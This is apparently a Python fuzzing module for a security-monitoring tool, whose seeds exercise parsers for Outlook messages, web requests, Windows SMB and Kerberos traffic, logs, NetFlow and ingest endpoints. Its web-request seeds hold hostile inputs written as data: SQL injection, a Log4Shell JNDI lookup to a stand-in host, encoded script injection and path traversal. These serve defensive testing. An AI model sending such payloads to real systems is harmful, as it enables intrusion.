"""What ``tools.fuzz`` fuzzes beside the sources: code that reads hostile bytes behind a door of its own, with what must hold of it."""

from __future__ import annotations

import io
from collections import Counter
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime

import numpy as np
import orjson
import polars as pl
from tests.sources.mail.ole import Tree, compound_file, properties

from vedette.abc import Source
from vedette.errors import SourceError
from vedette.events import flow_export
from vedette.events.batch import EventBatch
from vedette.features import web_decode
from vedette.features.log_merge import merged
from vedette.features.log_shape import LONGEST, MARK, shapes
from vedette.features.web_request import ASKED, _parts, _with_hidden
from vedette.features.web_tokens import BITS, prose, runs, runs_of
from vedette.scoring.ngrams import corpus
from vedette.sources.mail import Mail
from vedette.sources.mail.outlook import MAGIC
from vedette.sources.netflow import NetFlow
from vedette.sources.pcap.sessions import Sessions
from vedette.testing import flow_packets
from vedette.testing import windows as w
from vedette.testing.laws.source import ShortReads, read_all
from vedette.testing.payloads import TCP, UDP, Conversation
from vedette.transports.http.http_elastic import Elastic
from vedette.transports.http.http_ingest import Ingest
from vedette.transports.http.http_request import Dialect, Request
from vedette.transports.http.http_splunk import Splunk
from vedette.transports.netflow_udp import Exporter
from vedette.transports.sorting import Sorter

LIMIT_BYTES = 1 << 14


@dataclass(frozen=True, slots=True)
class Target:
    """Something that is fuzzed.

    Attributes:
        seeds: inputs to begin with.
        check: raises where an input shows a bug.
    """

    seeds: Sequence[bytes]
    check: Callable[[bytes], None]


def of_source(source: type[Source]) -> Target:
    """Return a source as a target.

    On any bytes it raises nothing but SourceError, its rows fit their classes (EventBatch checks that), and it accounts for the same
    records and rows however the stream splits.
    """
    return Target([source.example().data], lambda data: _reads_alike(source, data[:LIMIT_BYTES]))


def _reads_alike(source: type[Source], data: bytes) -> None:
    whole = _outcome(source, io.BytesIO(data))
    split = _outcome(source, ShortReads(data, len(data)))
    if whole != split:
        raise AssertionError(f"the stream's splits change the outcome: {whole} {split}")


def _outcome(source: type[Source], stream: io.RawIOBase | io.BytesIO) -> object:
    """Return rows by class and records, or the error's words."""
    try:
        batches = read_all(source, stream)
    except SourceError as error:
        return error.message
    rows: Counter[str] = Counter()
    for batch in batches:
        rows[batch.kind.name] += len(batch) if batch.kind else batch.records
    return rows, sum(batch.records for batch in batches)


# --------------------------------------------------------------------------------------------------------------- outlook

_CUT = b"\n--\n"
"""Between the streams of a message in an input that is no container."""
_STREAM_BYTES = 4_095
"""Longer streams would not fit the small container that is made."""
_HEADERS = "From: a <a@b.example>\r\nSubject: s\r\nDate: Thu, 5 Mar 2026 09:01:10 +0100\r\nContent-Type: text/html\r\n\tx: y\r\n"
_STREAMS: dict[str, bytes] = {
    "__properties_version1.0": properties({0x3FDE0003: 1252, 0x3FFD0003: 65001, 0x0E060040: 134_170_812 * 10**9}, 32),
    "__substg1.0_007D001F": _HEADERS.encode("utf-16-le"),
    "__substg1.0_0037001F": "subject".encode("utf-16-le"),
    "__substg1.0_1000001F": "text https://b.example/".encode("utf-16-le"),
    "__substg1.0_10130102": b"<p>text <a href='https://b.example/'>here</a><i style='display:none'>no</i>",
    "__substg1.0_0C1A001E": b"name",
    "__substg1.0_5D01001F": "a@b.example".encode("utf-16-le"),
    "__recip_version1.0_#00000000/__properties_version1.0": properties({0x0C150003: 2}, 8),
    "__recip_version1.0_#00000000/__substg1.0_39FE001F": "c@b.example".encode("utf-16-le"),
    "__attach_version1.0_#00000000/__substg1.0_3707001F": "bill.pdf.exe".encode("utf-16-le"),
    "__attach_version1.0_#00000000/__substg1.0_370E001F": "application/zip".encode("utf-16-le"),
    "__attach_version1.0_#00000000/__substg1.0_37010102": b"PK\x03\x04" + bytes(60),
}


def outlook_file(data: bytes) -> bytes:
    """Return a message of Outlook's whose streams, one after the other, are the pieces of ``data``; a container stays as it is."""
    if data.startswith(MAGIC):
        return data
    tree: Tree = {}
    for path, stream in zip(_STREAMS, data.split(_CUT), strict=False):
        folder, _, name = path.rpartition("/")
        held = tree.setdefault(folder, {}) if folder else tree
        assert isinstance(held, dict)  # noqa: S101 - for the reader of types
        held[name] = stream[:_STREAM_BYTES]
    return compound_file(tree)


def _outlook() -> Target:
    pieces = _CUT.join(_STREAMS.values())
    seeds = [pieces, outlook_file(pieces)]
    return Target(seeds, lambda data: _reads_alike(Mail, outlook_file(data[:LIMIT_BYTES])[: 8 * LIMIT_BYTES]))


# ----------------------------------------------------------------------------------------------------------- web requests

_REQUESTS = (
    "/a/b.php\t?id=1%27%20union%20select%201,2--\tMozilla/5.0 (X11)\thttps://b.example/",
    "/%252e%252e/%c0%af%u0041%uff1cscript\t?q=${${lower:j}ndi:ldap://b.example/a}&n=&#x3c;b&eacute;\tsqlmap/1.8\t",
    "/x\t?d=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==&t=caf%C3%A9+\\u003c\\x3e/**/'a'||'b'\t\t",
)
_ROWS = 16


def requests_of(data: bytes) -> pl.DataFrame:
    """Return a request a line, its parts (``ASKED``) parted by tabs; an absent part is null."""
    lines = data.decode("utf-8", "replace").split("\n")[:_ROWS]
    rows = [(line.split("\t", len(ASKED) - 1) + [None] * len(ASKED))[: len(ASKED)] for line in lines]
    return pl.DataFrame(rows, schema=dict.fromkeys(ASKED, pl.String), orient="row")


def _web(data: bytes) -> None:
    """Decode requests together and one by itself: nothing of one reaches another, marks are not forged, the text does not grow."""
    asked = requests_of(data[:LIMIT_BYTES])
    one = len(data) % max(asked.height, 1)
    together, alone = (_read(rows) for rows in (asked, asked.slice(one, 1)))
    if not together.slice(one, 1).equals(alone):
        raise AssertionError(f"a request is read otherwise among others: {together.slice(one, 1)} {alone}")
    if together.height != asked.height or not together["layers"].is_between(0, web_decode.LAYERS).all():
        raise AssertionError(f"rows or layers: {together}")
    if together["text"].str.contains(r"[\x00\x02-\x08\x0e-\x19]").any():
        raise AssertionError("a control character is left")
    marks = {
        mark: together["text"].str.count_matches(mark, literal=True)
        for mark in (web_decode.PATH, web_decode.AGENT, web_decode.REFERRER)
    }
    if (marks[web_decode.PATH] != asked[ASKED[0]].is_not_null()).any() or any((n > 1).any() for n in marks.values()):
        raise AssertionError(f"a mark is forged: {together}")
    sent = asked.select(pl.sum_horizontal(pl.all().fill_null("").str.len_bytes())).to_series()
    if (together["text"].str.len_bytes() > 8 * sent + 64).any():
        raise AssertionError("the text grows")
    _tokens(together["text"], one)


def _read(asked: pl.DataFrame) -> pl.DataFrame:
    """Return requests decoded, as ``WebRequest`` does it; its facts are regular expressions of Polars, and slow to compile."""
    return web_decode.decode(_with_hidden(asked.select(_parts()).to_series()))


def _tokens(texts: pl.Series, one: int) -> None:
    whole, held, alone = runs_of(texts), corpus(texts), corpus(texts.slice(one, 1))
    if len(whole.starts) != len(texts) + 1 or whole.starts[-1] != len(whole.slot) or (np.diff(whole.starts) < 0).any():
        raise AssertionError("runs do not belong to texts")
    if (
        (whole.slot >= 1 << BITS).any()
        or (whole.begin < 0).any()
        or (whole.begin + whole.length > len(held.data)).any()
    ):
        raise AssertionError("a run lies outside")
    if prose(alone)[0] != prose(held)[one] or set(runs(alone).slot) != set(
        whole.slot[whole.starts[one] : whole.starts[one + 1]]
    ):
        raise AssertionError(f"a text has other runs among others: {texts[one]!r}")


def _web_decode() -> Target:
    seeds = [*(r.encode() for r in _REQUESTS), "\n".join(_REQUESTS).encode()]
    return Target(seeds, _web)


# ---------------------------------------------------------------------------------------------------- Windows conversations

_PORTS = (445, 49_667, 88, 3_389)
_PIECES = 40
_FILE, _PIPE = b"a-handle-of-file", b"a-handle-of-pipe"


def conversation_of(data: bytes) -> Conversation:
    """Return packets between Windows hosts: a piece a packet; its first byte says to which port, by which protocol, and from whom."""
    talk = Conversation()
    for piece in data.split(_CUT)[:_PIECES]:
        how, payload = piece[0] if piece else 0, piece[1:] or b"x"
        datagram = how & 8 and how & 3 == 2
        port = _PORTS[how & 3]
        talk.add(payload, flow=1 + (how & 3), port=port, protocol=UDP if datagram else TCP, orig=not how & 4)
    return talk


def _said(talk: Conversation, size: int) -> dict[str, pl.DataFrame]:
    """Return the events by class, the packets handed over ``size`` at a time."""
    sessions = Sessions()
    batches: list[EventBatch] = []
    for start in range(0, len(talk.rows), size):
        batches += sessions.feed(talk.packets(start, start + size), bytes(talk.data))
    batches += sessions.close()
    parts: dict[str, list[pl.DataFrame]] = {}
    for batch in batches:
        parts.setdefault(batch.kind.name, []).append(batch.frame)
    return {kind: pl.concat(frames, how="diagonal") for kind, frames in parts.items()}


def _windows(data: bytes) -> None:
    """The same events come of any chunks, few for the bytes, none with endless texts."""
    talk = conversation_of(data[:LIMIT_BYTES])
    whole, split = (_said(talk, size) for size in (_PIECES, 1))
    rows = sum(frame.height for frame in whole.values())
    if {k: f.height for k, f in whole.items()} != {k: f.height for k, f in split.items()}:
        raise AssertionError(f"chunks change the events: {whole} {split}")
    if rows > len(data):
        raise AssertionError(f"{rows} events out of {len(data)} bytes")


def _windows_target() -> Target:
    opened = [
        w.smb2(5, w.create("tool.exe", 5)),
        w.smb2(5, w.created(_FILE), status=0),
        w.smb2(9, w.write(_FILE, b"MZ")),
    ]
    calls = [w.smb2(11, w.transceive(_PIPE, w.bind(w.SVCCTL))), w.smb2(11, w.transceive(_PIPE, w.request(12, call=3)))]
    old = [w.smb1(0x73, b"", w.ntlm("bob")), w.smb1(0xA2, b"\xff\0\0\0" + b"\0" * 46, w.wide("\\svcctl"))]
    asked = w.ticket_request("bob", "R")
    packets = [
        *(
            (0 if n % 2 == 0 else 4, m)
            for n, m in enumerate((w.smb2(1, w.ntlm("bob")), w.smb2(1, b"", status=0), *opened, *calls))
        ),
        *((0, m) for m in old),
        *((1, m) for m in (w.bind(w.SAMR, token=w.ntlm("eve")), w.request(13, w.wide("text"), call=2, of=b"o" * 16))),
        (5, w.response(call=2)),
        *(
            (10, asked),
            (14, w.kerberos_error(24)),
            (2, len(asked).to_bytes(4, "big") + asked),
            (14, w.ticket("bob", "R")),
        ),
        *((3, w.desktop_request("bob")), (7, w.desktop_confirm(2))),
    ]
    pieces = [bytes((how,)) + message for how, message in packets]
    return Target([_CUT.join(pieces), *(_CUT.join(pieces[n : n + 3]) for n in range(0, len(pieces), 3))], _windows)


# ---------------------------------------------------------------------------------------------------------------- log shapes

_LINES = (
    "Accepted key for user ada from 192.0.2.7 port 50122 ssh2 id=6ba7b810-9dad-11d1-80b4-00c04fd430c8",
    "10.0.0.1:80 \"GET /a/b?c=d HTTP/1.1\" status: 200 took 1.5 MB at Fri Jun 17 20:55:07 2005 () 'a-b' {x=[1, 2]}",
)


def _log_shapes(data: bytes) -> None:
    """A message has one shape, alone or among others; joining gives the same for any order; neither grows."""
    lines = pl.Series(data[:LIMIT_BYTES].decode("utf-8", "replace").split("\n")[: 4 * _ROWS])
    found = shapes(lines)
    one = len(data) % len(lines)
    if shapes(lines.slice(one, 1))[0] != found[one]:
        raise AssertionError(f"a message has another shape among others: {lines[one]!r}")
    if (found.str.len_chars() > len(MARK) * (LONGEST + 1)).any():
        raise AssertionError("a shape grows")
    if merged(found.reverse()).reverse().to_list() != merged(found).to_list():
        raise AssertionError("the order of messages changes what is joined")


def _log_shapes_target() -> Target:
    return Target(["\n".join(_LINES).encode(), *(line.encode() for line in _LINES)], _log_shapes)


# -------------------------------------------------------------------------------------------------------------- flow packets

_PACKETS = (
    flow_packets.v9([flow_packets.part(0, flow_packets.template(256, flow_packets.V4))]),
    flow_packets.v9([flow_packets.part(256, flow_packets.record(flow_packets.V4, flow_packets.SSH))], 1),
    flow_packets.v9(
        [flow_packets.part(1, flow_packets.options_v9(257, [(48, 1), (34, 4)])), flow_packets.part(257, bytes(9))]
    ),
    flow_packets.ipfix(
        [flow_packets.part(2, flow_packets.template(300, ((8, 4), (82, 0xFFFF), (12, 4), (1, 8, 29_305)))), bytes(4)]
    ),
    flow_packets.v5([("192.0.2.10", "198.51.100.7", 9, 1410, 0, 0, 1, 2, 0, 6)], sampling=1 << 14 | 10),
)


def container_of(data: bytes) -> bytes:
    """Return packets as the transport keeps them, a piece a packet; a container stays as it is."""
    if data.startswith(flow_export.MAGIC):
        return data
    return flow_export.MAGIC + b"".join(flow_export.framed(p, 1_772_697_672_000_000) for p in data.split(_CUT))


def _flow_export(data: bytes) -> None:
    """Packets are read alike however they split; templates that were told are told again alike; what is gathered can be read."""
    data = data[:LIMIT_BYTES]
    container = container_of(data)
    _reads_alike(NetFlow, container)
    told = NetFlow.preamble(container)
    if NetFlow.preamble(told) != told:
        raise AssertionError("templates change when they are told again")
    exporter = Exporter("192.0.2.1")
    if any(exporter.take(packet, 1) < 0 for packet in data.split(_CUT)):
        raise AssertionError("fewer than none are lost")
    chunk = exporter.chunk()
    _outcome(NetFlow, io.BytesIO(chunk.preamble + chunk.data))


def _flow_export_target() -> Target:
    return Target([_CUT.join(_PACKETS), *(_CUT.join(_PACKETS[n : n + 2]) for n in range(4))], _flow_export)


# ------------------------------------------------------------------------------------------------------- what clients send

_PATHS = (
    "/v1/ingest",
    "/services/collector",
    "/services/collector/raw",
    "/_bulk",
    "/services/collector/ack",
    "/i/_doc",
)
_BODIES = (
    b'{"message":"a\\nb","log":{"file":{"path":"/x"}},"host":{"name":"h"}}\n[{"log":"c"}]\n',
    b'{"event":{"MESSAGE":"a","_COMM":"b","_PID":"1"},"time":"1.5"}{"event":"c"}',
    b'{"index":{"_id":"1"}}\n{"message":"m","ident":"sshd","pid":"1"}\n{"delete":{}}\n',
    b'{"acks":[1,2]}',
)


def _clients(data: bytes) -> None:
    """Any body has an answer of JSON; what is kept is whole lines, and nothing is kept without success."""
    body = data[1 : LIMIT_BYTES + 1]
    path = _PATHS[data[0] % len(_PATHS)] if data else _PATHS[0]
    sorter = Sorter("http")
    dialect: Dialect = Elastic(sorter, "9.9.0")
    if path.startswith("/v1"):
        dialect = Ingest(sorter)
    elif path.startswith("/services"):
        dialect = Splunk(sorter)
    taken = dialect.take(Request("POST", path, {}, {}, "c", datetime(2026, 3, 5, tzinfo=UTC), body))
    orjson.loads(taken.answer.body)
    if taken.chunks and taken.answer.status not in (200, 201):
        raise AssertionError(f"kept, and told {taken.answer.status}")
    if path != _PATHS[0] and any(not c.data.endswith(b"\n") or b"\r" in c.data for c in taken.chunks):
        raise AssertionError(f"no whole lines: {taken.chunks}")


def _clients_target() -> Target:
    return Target([bytes([n % len(_PATHS)]) + body for n in range(len(_PATHS)) for body in _BODIES], _clients)


TARGETS: dict[str, Callable[[], Target]] = {
    "clients": _clients_target,
    "flow_export": _flow_export_target,
    "log_shapes": _log_shapes_target,
    "outlook": _outlook,
    "web_decode": _web_decode,
    "windows": _windows_target,
}
"""By name; sources are targets under their own names."""
